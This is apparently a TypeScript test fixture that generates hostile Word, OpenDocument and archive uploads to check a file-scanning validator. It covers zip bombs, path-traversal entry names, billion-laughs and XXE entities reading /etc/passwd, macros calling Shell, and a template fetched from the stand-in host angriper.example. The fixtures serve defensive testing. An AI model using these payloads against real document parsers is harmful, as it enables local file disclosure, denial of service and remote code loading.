import { deflateRawSync, gzipSync } from 'node:zlib';
import { INFECTED } from '../clamav/scanner.js';
import { makeDocx, paragraphXml } from '../make-docx.js';
import { makeZip, type ZipPart } from '../make-zip.js';
import type { HostileFile } from './hostile-file.js';

const MEGABYTE = 1_000_000;
const BODY = paragraphXml('Vi støtter forslaget.');
const DEEP = 20_000;

/** A Word file with one part more. */
const wordWith = (...others: readonly ZipPart[]): Buffer => makeDocx({ body: BODY, others });

/** One stretch of packed bytes that many entries of the directory point at, as in the bombs that need no second layer. */
function overlapping(): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(20 * MEGABYTE));
  const name = 'word/document.xml';
  const one = makeZip([{ name, content: Buffer.alloc(20 * MEGABYTE) }]);
  const start = one.indexOf(kernel);
  const directory = one.subarray(one.lastIndexOf(Buffer.from('PK\u0001\u0002', 'latin1')), one.length - 22);
  const many = Buffer.concat(
    Array.from({ length: 200 }, (_, at) => {
      const entry = Buffer.from(directory);
      entry.write(`word/${String(at).padStart(8, '0')}.xml`, entry.length - name.length, 'latin1');
      return entry;
    }),
  );
  const end = Buffer.from(one.subarray(one.length - 22));
  end.writeUInt16LE(200, 8);
  end.writeUInt16LE(200, 10);
  end.writeUInt32LE(many.length, 12);
  end.writeUInt32LE(start + kernel.length, 16);
  return Buffer.concat([one.subarray(0, start + kernel.length), many, end]);
}

/** The same without the last part of its directory. */
const cutOff = (file: Buffer): Buffer => file.subarray(0, file.length - 40);

const manyEntities = `<!DOCTYPE w [${Array.from({ length: 9 }, (_, at) => `<!ENTITY e${String(at + 1)} "${`&e${String(at)};`.repeat(10)}">`).join('')}<!ENTITY e0 "ha">]>`;

export function odt(content: string, others: readonly ZipPart[] = []): Buffer {
  const type = 'application/vnd.oasis.opendocument.text';
  const office = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0';
  const text = 'urn:oasis:names:tc:opendocument:xmlns:text:1.0';
  const manifest = 'urn:oasis:names:tc:opendocument:xmlns:manifest:1.0';
  return makeZip([
    { name: 'mimetype', content: type },
    {
      name: 'META-INF/manifest.xml',
      content: `<manifest:manifest xmlns:manifest="${manifest}"><manifest:file-entry manifest:full-path="/" manifest:media-type="${type}"/></manifest:manifest>`,
    },
    {
      name: 'content.xml',
      content: content.replace(
        '<office',
        `<office:document-content xmlns:office="${office}" xmlns:text="${text}"><office`,
      ),
    },
    ...others,
  ]);
}

const ODT_END = '</office:document-content>';
export const ODT_TEXT = `<office:body><office:text><text:p>Vi støtter forslaget.</text:p></office:text></office:body>${ODT_END}`;

/** Files that are archives, or say that they are. */
export const HOSTILE_ARCHIVES: readonly HostileFile[] = [
  {
    what: 'a Word file that unpacks to 300 MB',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/media/bilde.bin', content: Buffer.alloc(300 * MEGABYTE) }),
    verdict: 'bomb',
  },
  {
    what: 'a Word file whose text unpacks to 130 MB',
    filename: 'svar.docx',
    make: () =>
      makeZip([
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/document.xml', content: Buffer.alloc(130 * MEGABYTE, 'a') },
      ]),
    verdict: 'bomb',
  },
  {
    what: 'a Word file that says a part is smaller than it is',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/media/bilde.bin', content: Buffer.alloc(5 * MEGABYTE, 1), declaredBytes: 10 }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file whose text is larger than its archive says',
    filename: 'svar.docx',
    make: () => makeZip([...wordParts('x'.repeat(3 * MEGABYTE), 100)]),
    verdict: 'readable',
    reading: 'bomb',
  },
  {
    what: 'a Word file that says a part holds four gigabytes',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/media/bilde.bin', content: 'x', declaredBytes: 0xfffffff0 }),
    verdict: 'bomb',
  },
  {
    what: 'a Word file of 6,000 parts',
    filename: 'svar.docx',
    make: () =>
      wordWith(...Array.from({ length: 6_000 }, (_, at) => ({ name: `word/${String(at)}.bin`, content: 'x' }))),
    verdict: 'bomb',
  },
  { what: 'an archive whose parts share their bytes', filename: 'svar.docx', make: overlapping, verdict: 'bomb' },
  {
    what: 'archives within archives within a Word file',
    filename: 'svar.docx',
    make: () => {
      let inner = makeZip([{ name: 'nuller.bin', content: Buffer.alloc(40 * MEGABYTE) }]);
      for (let depth = 0; depth < 5; depth += 1) inner = makeZip([{ name: 'indre.zip', content: inner }]);
      return wordWith({ name: 'word/embeddings/pakke.zip', content: inner });
    },
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file with a part that climbs out of its folder',
    filename: 'svar.docx',
    make: () => wordWith({ name: '../../../../tmp/hoering-rømt.txt', content: 'ute' }),
    verdict: 'damaged',
  },
  {
    what: 'a Word file with a part at the root of the disk',
    filename: 'svar.docx',
    make: () => wordWith({ name: '/etc/hoering-rømt.txt', content: 'ute' }),
    verdict: 'damaged',
  },
  {
    what: 'a Word file with its text twice',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/document.xml', content: '<w:document/>' }),
    verdict: 'damaged',
  },
  {
    what: 'an archive with a locked part',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/hemmelig.xml', content: 'x', flags: 1 }),
    verdict: 'encrypted',
  },
  { what: 'a Word file that was cut off', filename: 'svar.docx', make: () => cutOff(wordWith()), verdict: 'damaged' },
  {
    what: 'a Word file behind a program',
    filename: 'svar.docx',
    make: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510), wordWith()]),
    verdict: 'otherType',
  },
  {
    what: 'a Word file without text',
    filename: 'svar.docx',
    make: () =>
      makeZip([
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/styles.xml', content: '<w/>' },
      ]),
    verdict: 'otherType',
  },
  {
    what: 'a Word file whose entities multiply',
    filename: 'svar.docx',
    make: () => makeDocx({ body: paragraphXml('&e9;'), beforeDocument: manyEntities }),
    verdict: 'readable',
    reading: 'doctype',
  },
  {
    what: 'a Word file that fetches a file of the machine',
    filename: 'svar.docx',
    make: () =>
      makeDocx({ body: paragraphXml('&x;'), beforeDocument: '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' }),
    verdict: 'readable',
    reading: 'doctype',
  },
  {
    what: 'a Word file with macros under the name of one without',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/vbaProject.bin', content: 'x' }),
    verdict: 'macro',
  },
  {
    what: 'a Word file that calls itself one with macros',
    filename: 'svar.docx',
    make: () => makeDocx({ body: BODY, mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    verdict: 'macro',
  },
  {
    what: 'a Word file that fetches its template from elsewhere',
    filename: 'svar.docx',
    make: () =>
      wordWith({
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://angriper.example/mal.dotm" TargetMode="External"/></Relationships>',
      }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file with frames in frames without end',
    filename: 'svar.docx',
    make: () =>
      makeDocx({ body: `${'<w:sdt><w:sdtContent>'.repeat(DEEP)}${BODY}${'</w:sdtContent></w:sdt>'.repeat(DEEP)}` }),
    verdict: 'readable',
    reading: 'bomb',
  },
  {
    what: 'a Word file whose text is no text',
    filename: 'svar.docx',
    make: () => makeZip([...wordParts(Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x01]))]),
    verdict: 'readable',
    reading: 'damaged',
  },
  {
    what: 'a Word file that carries a virus',
    filename: 'svar.docx',
    make: () => wordWith({ name: 'word/embeddings/oleObject1.bin', content: INFECTED }),
    verdict: 'readable',
    reading: 'text',
    isInfected: true,
  },
  {
    what: 'an OpenDocument text that unpacks to 300 MB',
    filename: 'svar.odt',
    make: () => odt(ODT_TEXT, [{ name: 'Pictures/bilde.bin', content: Buffer.alloc(300 * MEGABYTE) }]),
    verdict: 'bomb',
  },
  {
    what: 'an OpenDocument text that fetches a file of the machine',
    filename: 'svar.odt',
    make: () => odt(`<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>${ODT_TEXT.replace('Vi', '&x;')}`),
    verdict: 'readable',
    reading: 'doctype',
  },
  {
    what: 'an OpenDocument text with macros',
    filename: 'svar.odt',
    make: () =>
      odt(ODT_TEXT, [{ name: 'Basic/Standard/Module1.xml', content: '<script:module>Shell("x")</script:module>' }]),
    verdict: 'macro',
  },
  {
    what: 'an archive of anything',
    filename: 'svar.zip',
    make: () => makeZip([{ name: 'lesmeg.txt', content: 'Hei' }]),
    verdict: 'otherType',
  },
  {
    what: 'a program for Java under the name of a letter',
    filename: 'svar.docx',
    make: () =>
      makeZip([
        { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Angrep' },
        { name: 'Angrep.class', content: 'x' },
      ]),
    verdict: 'otherType',
  },
  {
    what: 'a packed stretch of zeros',
    filename: 'svar.gz',
    make: () => gzipSync(Buffer.alloc(100 * MEGABYTE)),
    verdict: 'otherType',
  },
];

function wordParts(text: string | Buffer, declaredBytes?: number): readonly ZipPart[] {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
  const relations =
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="m" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
  return [
    { name: '[Content_Types].xml', content: types },
    { name: '_rels/.rels', content: relations },
    { name: 'word/document.xml', content: text, ...(declaredBytes === undefined ? {} : { declaredBytes }) },
  ];
}
